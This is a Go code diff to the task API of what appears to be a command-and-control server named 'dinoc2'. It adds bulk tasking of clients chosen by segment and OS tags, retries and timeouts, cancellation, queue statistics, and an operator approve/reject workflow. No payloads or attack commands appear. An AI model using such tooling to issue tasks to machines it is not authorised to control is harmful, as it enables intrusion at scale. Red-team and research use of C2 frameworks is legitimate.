@@ -2,9 +2,14 @@ package api
 
 import (
 	"encoding/json"
+	"errors"
+	"io"
 	"net/http"
 	"strconv"
+	"time"
 	
+	"dinoc2/pkg/client"
+	"dinoc2/pkg/module"
 	"dinoc2/pkg/task"
 )
 
@@ -15,6 +20,23 @@ type TaskRequest struct {
 	Data      []byte           `json:"data"`
 	Priority  task.TaskPriority `json:"priority"`
 	DependsOn []uint32         `json:"depends_on"`
+	Selector  string           `json:"selector,omitempty"` // tag selector such as segment=dmz,os=linux, instead of client_id
+
+	Timeout         int `json:"timeout,omitempty"`           // in seconds, 0 to use the timeout of the task type
+	MaxAttempts     int `json:"max_attempts,omitempty"`      // total attempts for failed or timed out tasks
+	RetryBackoff    int `json:"retry_backoff,omitempty"`     // in seconds, doubled after each attempt
+	RetryMaxBackoff int `json:"retry_max_backoff,omitempty"` // in seconds
+}
+
+// TaskCancelRequest represents a request to cancel a task
+type TaskCancelRequest struct {
+	ID     uint32 `json:"id"`
+	Reason string `json:"reason,omitempty"`
+}
+
+// TaskCancelReason is the optional body of a request to cancel a task by its path
+type TaskCancelReason struct {
+	Reason string `json:"reason,omitempty"`
 }
 
 // handleListTasks handles GET /api/tasks
@@ -35,6 +57,17 @@ func (r *Router) handleListTasks(w http.ResponseWriter, req *http.Request) {
 		tasks = r.taskManager.ListTasks()
 	}
 	
+	// Only list tasks in the given status, such as those awaiting approval
+	if status := req.URL.Query().Get("status"); status != "" {
+		filtered := make([]*task.Task, 0, len(tasks))
+		for _, t := range tasks {
+			if t.Status == task.TaskStatus(status) {
+				filtered = append(filtered, t)
+			}
+		}
+		tasks = filtered
+	}
+	
 	writeJSON(w, tasks, http.StatusOK)
 }
 
@@ -51,21 +84,63 @@ func (r *Router) handleCreateTask(w http.ResponseWriter, req *http.Request) {
 		return
 	}
 	
-	// Create task
-	task, err := r.taskManager.CreateTask(
-		task.TaskType(taskReq.Type),
-		taskReq.ClientID,
-		taskReq.Data,
-		taskReq.Priority,
-		taskReq.DependsOn,
-	)
+	options := task.TaskOptions{
+		Timeout: time.Duration(taskReq.Timeout) * time.Second,
+		Retry: task.RetryPolicy{
+			MaxAttempts: taskReq.MaxAttempts,
+			Backoff:     time.Duration(taskReq.RetryBackoff) * time.Second,
+			MaxBackoff:  time.Duration(taskReq.RetryMaxBackoff) * time.Second,
+		},
+		CreatedBy: requestOperator(req),
+	}
+	
+	// Create task, or a bulk task for every client the selector matches
+	var newTask *task.Task
+	var err error
+	if taskReq.Selector != "" {
+		if taskReq.ClientID != "" {
+			writeError(w, "Specify either client_id or selector, not both", http.StatusBadRequest)
+			return
+		}
+		selector, parseErr := client.ParseSelector(taskReq.Selector)
+		if parseErr != nil {
+			writeError(w, parseErr.Error(), http.StatusBadRequest)
+			return
+		}
+		clientIDs := r.clientManager.Select(selector)
+		if len(clientIDs) == 0 {
+			writeError(w, "No clients match the selector", http.StatusNotFound)
+			return
+		}
+		newTask, err = r.taskManager.CreateBulkTask(task.TaskType(taskReq.Type), clientIDs, selector.String(),
+			taskReq.Data, taskReq.Priority, taskReq.DependsOn, options)
+	} else {
+		newTask, err = r.taskManager.CreateTaskWithOptions(task.TaskType(taskReq.Type), taskReq.ClientID,
+			taskReq.Data, taskReq.Priority, taskReq.DependsOn, options)
+	}
 	
+	if errors.Is(err, module.ErrInvalidCommand) {
+		writeErrorCode(w, ErrCodeInvalidCommand, err.Error(), http.StatusBadRequest)
+		return
+	}
+	if errors.Is(err, client.ErrClientLocked) {
+		writeErrorCode(w, ErrCodeClientLocked, err.Error(), http.StatusConflict)
+		return
+	}
+	if errors.Is(err, task.ErrTaskRefused) {
+		writeErrorCode(w, ErrCodeTaskRefused, err.Error(), http.StatusForbidden)
+		return
+	}
+	if errors.Is(err, task.ErrQueueFull) {
+		writeErrorCode(w, ErrCodeQueueFull, err.Error(), http.StatusTooManyRequests)
+		return
+	}
 	if err != nil {
 		writeError(w, err.Error(), http.StatusInternalServerError)
 		return
 	}
 	
-	writeJSON(w, task, http.StatusOK)
+	writeJSON(w, newTask, http.StatusOK)
 }
 
 // handleTaskStatus handles GET /api/tasks/status
@@ -75,7 +150,16 @@ func (r *Router) handleTaskStatus(w http.ResponseWriter, req *http.Request) {
 		return
 	}
 	
-	idStr := req.URL.Query().Get("id")
+	r.writeTask(w, req.URL.Query().Get("id"))
+}
+
+// handleGetTask handles GET /api/v1/tasks/{id}
+func (r *Router) handleGetTask(w http.ResponseWriter, req *http.Request) {
+	r.writeTask(w, req.PathValue("id"))
+}
+
+// writeTask writes the task with the given ID
+func (r *Router) writeTask(w http.ResponseWriter, idStr string) {
 	if idStr == "" {
 		writeError(w, "Task ID is required", http.StatusBadRequest)
 		return
@@ -89,9 +173,122 @@ func (r *Router) handleTaskStatus(w http.ResponseWriter, req *http.Request) {
 	
 	task, err := r.taskManager.GetTask(uint32(id))
 	if err != nil {
-		writeError(w, err.Error(), http.StatusInternalServerError)
+		writeError(w, err.Error(), http.StatusNotFound)
 		return
 	}
 	
 	writeJSON(w, task, http.StatusOK)
 }
+
+// handleCancelTask handles POST /api/tasks/cancel
+func (r *Router) handleCancelTask(w http.ResponseWriter, req *http.Request) {
+	var cancelReq TaskCancelRequest
+	if err := json.NewDecoder(req.Body).Decode(&cancelReq); err != nil {
+		writeError(w, "Invalid request body", http.StatusBadRequest)
+		return
+	}
+	if cancelReq.ID == 0 {
+		writeError(w, "Task ID is required", http.StatusBadRequest)
+		return
+	}
+	
+	r.cancelTask(w, cancelReq.ID, cancelReq.Reason)
+}
+
+// handleCancelTaskByID handles POST /api/v1/tasks/{id}/cancel
+func (r *Router) handleCancelTaskByID(w http.ResponseWriter, req *http.Request) {
+	id, err := strconv.ParseUint(req.PathValue("id"), 10, 32)
+	if err != nil {
+		writeError(w, "Invalid task ID", http.StatusBadRequest)
+		return
+	}
+	
+	// The reason is optional, so an empty body is accepted
+	var reason TaskCancelReason
+	if err := json.NewDecoder(req.Body).Decode(&reason); err != nil && err != io.EOF {
+		writeError(w, "Invalid request body", http.StatusBadRequest)
+		return
+	}
+	
+	r.cancelTask(w, uint32(id), reason.Reason)
+}
+
+// handleQueueStats handles GET /api/v1/tasks/queue
+func (r *Router) handleQueueStats(w http.ResponseWriter, req *http.Request) {
+	writeJSON(w, r.taskManager.QueueStats(), http.StatusOK)
+}
+
+// handleCleanupReport handles GET /api/v1/tasks/cleanup
+func (r *Router) handleCleanupReport(w http.ResponseWriter, req *http.Request) {
+	clients := r.clientManager.ListClients()
+	clientIDs := make([]string, 0, len(clients))
+	for _, client := range clients {
+		clientIDs = append(clientIDs, client.GetSessionID())
+	}
+	
+	writeJSON(w, r.taskManager.CleanupReport(clientIDs), http.StatusOK)
+}
+
+// handleApproveTask handles POST /api/v1/tasks/{id}/approve
+func (r *Router) handleApproveTask(w http.ResponseWriter, req *http.Request) {
+	id, err := strconv.ParseUint(req.PathValue("id"), 10, 32)
+	if err != nil {
+		writeError(w, "Invalid task ID", http.StatusBadRequest)
+		return
+	}
+	
+	approved, err := r.taskManager.ApproveTask(uint32(id), requestOperator(req))
+	r.writeApproval(w, approved, err)
+}
+
+// handleRejectTask handles POST /api/v1/tasks/{id}/reject
+func (r *Router) handleRejectTask(w http.ResponseWriter, req *http.Request) {
+	id, err := strconv.ParseUint(req.PathValue("id"), 10, 32)
+	if err != nil {
+		writeError(w, "Invalid task ID", http.StatusBadRequest)
+		return
+	}
+	
+	// The reason is optional, so an empty body is accepted
+	var reason TaskCancelReason
+	if err := json.NewDecoder(req.Body).Decode(&reason); err != nil && err != io.EOF {
+		writeError(w, "Invalid request body", http.StatusBadRequest)
+		return
+	}
+	
+	rejected, err := r.taskManager.RejectTask(uint32(id), requestOperator(req), reason.Reason)
+	r.writeApproval(w, rejected, err)
+}
+
+// writeApproval writes a task that was approved or rejected, or the reason it could not be
+func (r *Router) writeApproval(w http.ResponseWriter, t *task.Task, err error) {
+	switch {
+	case errors.Is(err, task.ErrTaskNotFound):
+		writeError(w, err.Error(), http.StatusNotFound)
+	case errors.Is(err, task.ErrNotAwaitingApproval):
+		writeError(w, err.Error(), http.StatusConflict)
+	case errors.Is(err, task.ErrApprovalDenied):
+		writeError(w, err.Error(), http.StatusForbidden)
+	case errors.Is(err, task.ErrQueueFull):
+		writeErrorCode(w, ErrCodeQueueFull, err.Error(), http.StatusTooManyRequests)
+	case err != nil:
+		writeError(w, err.Error(), http.StatusInternalServerError)
+	default:
+		writeJSON(w, t, http.StatusOK)
+	}
+}
+
+// cancelTask cancels a task and writes it
+func (r *Router) cancelTask(w http.ResponseWriter, id uint32, reason string) {
+	cancelled, err := r.taskManager.CancelTask(id, reason)
+	switch {
+	case errors.Is(err, task.ErrTaskNotFound):
+		writeError(w, err.Error(), http.StatusNotFound)
+	case errors.Is(err, task.ErrTaskFinished):
+		writeError(w, err.Error(), http.StatusConflict)
+	case err != nil:
+		writeError(w, err.Error(), http.StatusInternalServerError)
+	default:
+		writeJSON(w, cancelled, http.StatusOK)
+	}
+}